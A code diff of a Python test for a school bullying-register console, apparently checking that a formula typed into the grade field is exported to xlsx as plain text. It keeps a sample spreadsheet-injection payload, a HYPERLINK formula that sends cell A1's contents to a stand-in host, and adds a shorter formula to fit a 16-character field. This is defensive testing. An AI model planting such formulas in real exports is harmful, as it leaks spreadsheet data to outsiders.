@@ -12,6 +12,7 @@ from tests.conftest import csrf_from, login
 from tests.registers.test_console import MONTH, _cases
 
 EVIL = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点这里")'
+GRADE = '=HYPERLINK("x")'  # the register keeps 16 characters of a grade
 
 
 def _cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
@@ -25,7 +26,7 @@ async def test_register_grade_is_text_in_the_xlsx(client, db_url: str) -> None: 
     form = await client.get(f"/console/bullying/{ids[0]}")
     data = {
         "csrf_token": csrf_from(form.text),
-        "grade": EVIL,
+        "grade": GRADE,
         "bullying_type": "physical",
         "investigation": "completed",
         "investigated_on": "2025-10-16",
@@ -35,7 +36,7 @@ async def test_register_grade_is_text_in_the_xlsx(client, db_url: str) -> None: 
     saved = await client.post(f"/console/bullying/{ids[0]}", data=data, follow_redirects=False)
     assert saved.status_code == 303
     export = await client.get(f"/console/bullying/export.xlsx?month={MONTH}")
-    cells = [c for c in _cells(export.content) if c.value == EVIL]
+    cells = [c for c in _cells(export.content) if c.value == GRADE]
     assert cells, "the grade is in the register"
     assert all(c.data_type == "s" for c in cells)
     assert not [c for c in _cells(export.content) if c.data_type == "f"]
